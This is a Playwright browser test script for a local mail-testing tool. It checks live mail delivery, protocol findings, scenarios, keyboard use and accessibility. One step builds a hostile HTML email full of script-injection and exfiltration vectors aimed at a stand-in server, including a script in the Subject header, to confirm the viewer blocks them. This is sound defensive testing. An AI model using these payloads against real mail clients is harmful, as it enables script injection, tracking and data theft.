// Looks at the page in a browser, as a person does: node page/tour.mjs BASE PORTS STRANGER. PORTS is JSON, the real port of each door.
// STRANGER is the address of a server that hostile mail wants to reach; the test behind this script sees whether anybody connects.
import assert from "node:assert";
import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import net from "node:net";
import { promisify } from "node:util";
import nodemailer from "nodemailer";
import { chromium } from "playwright-core";
import { faultsOf, looks } from "./axe.mjs";

const [base, portsJSON, stranger] = process.argv.slice(2);
const ports = JSON.parse(portsJSON);
const run = promisify(execFile);
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM, args: ["--no-sandbox", "--disable-background-networking"] });
const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
context.setDefaultTimeout(60_000);
const page = await context.newPage();
const complaints = [];
page.on("console", (m) => { if (m.type() === "error" && !m.location().url.includes("/frame/")) complaints.push(m.text()); });
page.on("pageerror", (e) => complaints.push(String(e)));

const live = () => page.waitForSelector("#state[data-state=live]");
async function go(path) { await page.goto(base + path); await live(); }

// client speaks a line protocol.
class Client {
  constructor(port) { this.socket = net.connect(port, "127.0.0.1"); this.text = ""; this.socket.on("data", (d) => { this.text += d; this.wake?.(); }); this.socket.on("error", () => {}); }
  async until(part) { while (!this.text.includes(part)) await new Promise((wake) => { this.wake = wake; }); const t = this.text; this.text = ""; return t; }
  async say(line, want) { this.socket.write(line + "\r\n"); return this.until(want); }
  close() { this.socket.destroy(); }
}

const steps = {
  async "mail arrives without a reload"() {
    await go("/mail");
    const loaded = await page.evaluate(() => performance.timeOrigin);
    const transport = nodemailer.createTransport({ host: "127.0.0.1", port: ports[25], secure: false, ignoreTLS: true });
    await transport.sendMail({ from: "shop@example.test", to: "alice@example.test", subject: "Hello live", text: "Your code is 482913" });
    await page.getByText("Hello live").first().waitFor();
    assert.equal(await page.evaluate(() => performance.timeOrigin), loaded);
    await page.getByText("Hello live").first().click();
    await page.locator(".find code").getByText("482913").waitFor();
  },
  async "a finding stands at its line while the client is connected"() {
    await go("/");
    const client = new Client(ports[143]);
    await client.until("* OK");
    await page.locator("#happened li.open .row").first().click();
    await live();
    await client.say("a1 LOGIN alice secret", "a1 OK");
    const line = page.locator("li.line.client", { hasText: "LOGIN alice" });
    await line.locator(".finding.error", { hasText: "The password crossed the network unencrypted" }).waitFor();
    await page.locator(".tag.open").waitFor();
    assert.ok(!(await page.content()).includes("secret"));
    const waits = new Client(ports[993]); // says nothing: it waits for a greeting
    await page.locator("nav a", { hasText: "Now" }).click(); // a link chooses no row, so nothing that is new is held back
    await page.waitForURL(base + "/");
    await live();
    await page.locator("#warnings .told", { hasText: "waits for a greeting" }).first().click();
    await page.locator("li.line.rig .finding.warning").waitFor();
    await page.locator(".tag.open").waitFor();
    waits.close();
    client.close();
  },
  async "a scenario is switched by click"() {
    await go("/scenarios/port-25-blocked");
    await page.getByRole("button", { name: "Switch on" }).click();
    await page.getByText("Active for everybody").waitFor();
    await assert.rejects(run("curl", ["-sS", "--connect-timeout", "2", `smtp://127.0.0.1:${ports[25]}`]), { code: 28 });
    await go("/");
    await page.locator(".door.drop", { hasText: "drops" }).waitFor();
    await page.getByRole("button", { name: "Switch port-25-blocked off" }).click();
    await page.getByText("No scenario is active").waitFor();
    await run("curl", ["-sS", "--connect-timeout", "20", `smtp://127.0.0.1:${ports[25]}`, "-X", "NOOP"]);
  },
  async "what is seen of a scenario stands beside what is expected"() {
    await go("/scenarios/smtp-unknown-recipient");
    await page.getByRole("button", { name: "Switch on" }).click();
    await page.getByText("Active for everybody").waitFor();
    await live();
    await page.getByText("It hasn't acted yet").waitFor();
    await assert.rejects(run("curl", ["-sS", `smtp://127.0.0.1:${ports[25]}`, "--mail-from", "a@example.test", "--mail-rcpt", "b@example.test", "-T", "/dev/null"]));
    await page.locator("#seen .event", { hasText: "smtp-unknown-recipient" }).waitFor();
    await page.getByRole("button", { name: "Switch off", exact: true }).click();
    await page.getByText("No scenario is active").waitFor();
    await go("/");
    const client = new Client(ports[25]);
    await client.until("220");
    await client.say("NOOP", "250");
    await page.locator("#happened > li.event .what", { hasText: "smtp" }).first().waitFor();
    assert.equal(await page.locator("#happened .c-out").count(), 0, "a row of the table of sessions");
    client.close();
  },
  async "an own scenario is written, checked, tried and saved"() {
    await page.goto(base + "/scenarios/new");
    const area = page.locator("#yaml");
    await area.fill("name: own\ntitle: Own\nstory: s\nrules:\n  - match: {protocol: smtp, command: RCPT}\n    repyl: \"452 4.2.2 Full\"\n");
    await page.locator(".mistakes", { hasText: "did you mean reply?" }).waitFor();
    await page.locator("[data-line='6']").click();
    assert.match(await page.evaluate(() => { const a = document.getElementById("yaml"); return a.value.slice(a.selectionStart, a.selectionEnd); }), /repyl/);
    await area.fill("name: own\ntitle: Own\nstory: s\nrules:\n  - match: {protocol: smtp, command: RCPT}\n    repl");
    await page.locator("[data-insert='reply: ']").waitFor();
    await page.keyboard.press("Control+ ");
    await page.keyboard.type("\"452 4.2.2 Full\"\n");
    await page.getByText("No mistake").waitFor();
    const saved = page.waitForEvent("download");
    await page.getByRole("button", { name: "Save as a file" }).click();
    const file = await saved;
    assert.equal(file.suggestedFilename(), "own.yaml");
    assert.equal(readFileSync(await file.path(), "utf8"), await area.inputValue());
    await page.getByRole("button", { name: "Try it" }).click();
    await page.getByText("Active for everybody").waitFor();
    const client = new Client(ports[25]);
    await client.until("220");
    await client.say("EHLO x", "250 ");
    await client.say("MAIL FROM:<a@example.test>", "250");
    await client.say("RCPT TO:<b@example.test>", "452 4.2.2 Full");
    client.close();
    await page.getByRole("button", { name: "Switch off", exact: true }).click();
    await page.getByText("No scenario is active").waitFor();
  },
  async "everything is in reach of the keyboard"() {
    await go("/");
    await page.keyboard.press("2");
    await page.waitForURL("**/sessions");
    await live();
    await page.keyboard.press("j");
    await page.keyboard.press("j");
    const row = await page.evaluate(() => document.activeElement.closest("li").id);
    await page.keyboard.press("Enter");
    await page.waitForURL("**/sessions/*");
    await page.locator("#dialogue").waitFor();
    await page.keyboard.press("n");
    await page.keyboard.press("u");
    await page.waitForURL("**/sessions");
    const chosen = (id) => document.activeElement?.closest("li")?.id === id;
    await page.waitForFunction(chosen, row);
    await page.keyboard.press("Enter");
    await page.waitForURL("**/sessions/*");
    await page.goBack();
    await page.waitForURL("**/sessions");
    await page.waitForFunction(chosen, row);
    await page.keyboard.press("3");
    await page.waitForURL("**/mail");
    await page.keyboard.press("j");
    await page.keyboard.press("x");
    assert.equal(await page.locator("#rows input:checked").count(), 1);
    await page.keyboard.press("x");
    await page.keyboard.press("Enter");
    await page.waitForURL("**/m/*");
    await page.keyboard.press("4");
    await page.waitForURL("**/scenarios");
    await page.keyboard.press("/");
    await page.keyboard.type("greylisting");
    await page.keyboard.press("Enter");
    await page.waitForURL("**/scenarios?q=greylisting");
    await page.keyboard.press("j");
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Switch on" }).waitFor();
    await page.keyboard.press("?");
    await page.getByRole("dialog").waitFor();
    await page.keyboard.press("Escape");
    await page.keyboard.press("t");
    assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "light");
    await page.keyboard.press("t");
    assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark");
    await page.keyboard.press("t");
  },
  async "what is being read doesn't move"() {
    await go("/mail");
    await page.locator("#rows .row").first().focus();
    const before = await page.locator("#rows .row").first().boundingBox();
    await fetch(base + "/api/v1/mail", { method: "POST", body: JSON.stringify({ from: "a@example.test", to: ["alice@example.test"], subject: "Later", text: "x" }) });
    await page.locator("#held", { hasText: "1 new" }).waitFor();
    const held = await page.evaluate(() => document.activeElement.getBoundingClientRect().y);
    assert.ok(Math.abs(held - before.y) < 1, `moved from ${before.y} to ${held}`);
    await page.keyboard.press(".");
    await page.locator("#rows").getByText("Later").waitFor();
  },
  async "hostile mail does nothing"() {
    const e = `http://${stranger}`;
    const html = `<html><head><meta http-equiv="refresh" content="0;url=${e}/refresh"><base href="${e}/base/"><link rel="stylesheet" href="${e}/css"><link rel="preconnect" href="${e}"><link rel="dns-prefetch" href="${e}"><link rel="prefetch" href="${e}/prefetch"><link rel="preload" as="image" href="${e}/preload"><link rel="icon" href="${e}/icon"><script src="${e}/script"></script><script>fetch("${e}/inline");top.document.title="PWNED"</script>
<style>@import "${e}/import";@font-face{font-family:x;src:url(${e}/font)}body{background:url(${e}/bg);font-family:x}input[value^="a"]{background:url(${e}/exfil)}</style></head><body onload="fetch('${e}/onload')">text<img src="${e}/img"><img src=x onerror="fetch('${e}/onerror')"><img srcset="${e}/srcset 1x"><picture><source srcset="${e}/picture"><img></picture><video src="${e}/video" poster="${e}/poster" autoplay></video><iframe src="${e}/iframe"></iframe><object data="${e}/object"></object><embed src="${e}/embed"><svg onload="fetch('${e}/svg')"><image href="${e}/svgimage"/><style><p><iframe src="${e}/breakout"></iframe></style></svg><form action="${e}/form" id=f><input value="abc" autofocus onfocus="f.submit()"></form><a id=a href="javascript:fetch('${e}/js')" autofocus>x</a><a href="${e}/ping" ping="${e}/p">y</a><div style="background-image:url(${e}/style)"></div><table background="${e}/tbl"><tr><td>z</table><noscript><iframe src="${e}/noscript"></iframe></noscript><template shadowrootmode="open"><img src="${e}/shadow"><iframe src="${e}/shadowframe"></iframe></template></body></html>`;
    for (const [subject, content] of [["hostile", html], ["huge", html + "<p>".repeat(20_000) + "x"], ["deep", "<div>".repeat(5_000) + html]]) {
      const raw = `From: evil@example.test\r\nTo: alice@example.test\r\nSubject: ${subject}<script>top.document.title="PWNED"</script>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${content}\r\n`;
      const sent = await (await fetch(base + "/api/v1/mail?from=evil@example.test&to=alice@example.test", { method: "POST", headers: { "Content-Type": "message/rfc822" }, body: raw })).json();
      const id = sent.messages[0].id;
      await go("/m/" + id);
      const frame = page.frameLocator("iframe.frame");
      await frame.locator("body").waitFor();
      if (subject !== "deep") await frame.getByText("text").first().waitFor();
      for (const view of ["text", "source", "headers", "parts", "journey"]) await go(`/m/${id}/${view}`);
      assert.notEqual(await page.title(), "PWNED");
      const alone = await context.newPage();
      await alone.goto(base + "/frame/" + id);
      await alone.waitForTimeout(1000); // for what must not happen
      assert.equal(alone.url(), base + "/frame/" + id);
      await alone.close();
    }
  },
  async "axe finds no serious fault"() {
    const message = (await (await fetch(base + "/api/v1/mail?match=subject:Hello")).json()).messages[0].id;
    const session = (await (await fetch(base + "/api/v1/sessions?match=login:ok")).json()).sessions[0].id;
    const faults = [];
    for (const look of looks) {
      await page.setViewportSize(look.viewport);
      await page.emulateMedia({ colorScheme: look.colorScheme, reducedMotion: "reduce" });
      for (const path of VIEWS(message, session)) {
        await page.goto(base + path);
        await page.waitForSelector("#help-open:not([hidden])", { state: "attached" });
        faults.push(...await faultsOf(page, path, look));
      }
    }
    assert.deepEqual(faults, []);
  },
};

const VIEWS = (message, session) => ["/", "/sessions", `/sessions/${session}`, "/mail", `/m/${message}`, `/m/${message}/headers`, `/m/${message}/journey`, "/scenarios", "/scenarios?group=smtp", "/scenarios/greylisting", "/scenarios/new", "/setup", "/setup/curl", "/setup/ios"];

let failed = 0;
for (const [name, step] of Object.entries(steps)) {
  const began = Date.now();
  try {
    await step();
    console.log(`ok ${name} (${Date.now() - began} ms)`);
  } catch (e) {
    failed++;
    console.log(`FAILED ${name}: ${e.stack ?? e}\nat ${page.url()}`);
  }
}
if (complaints.length) {
  failed++;
  console.log("the browser complains:\n" + complaints.join("\n"));
}
await browser.close();
process.exit(failed ? 1 : 0);
